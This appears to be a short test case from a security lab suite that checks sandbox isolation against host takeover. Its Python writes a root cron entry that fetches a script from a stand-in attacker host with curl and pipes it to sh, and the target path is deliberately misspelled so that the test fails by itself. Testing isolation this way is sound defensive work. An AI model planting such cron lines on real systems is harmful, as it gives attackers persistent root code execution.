# lab:title: Host takeover with a typo in its target
# lab:threat: takeover
# lab:layer: isolation
# lab:consequence: test
# adversary: --on all => BROKE ~ not the host target
# adversary: --on isolation => BROKE ~ not the host target
# adversary: --off isolation => BROKE
"""Issue 17, item 4: aims at .../crond.d/... instead of .../cron.d/...; its
last word is a FileNotFoundError on a path that is neither the target nor
one of its parents. It failed by itself, whatever the layers."""
import os

target = os.environ["LAB_HOST_TARGET"].replace("/cron.d/", "/crond.d/")
with open(target, "w") as f:
    f.write("* * * * * root sh -c 'curl -s http://attacker.invalid/x | sh'\n")
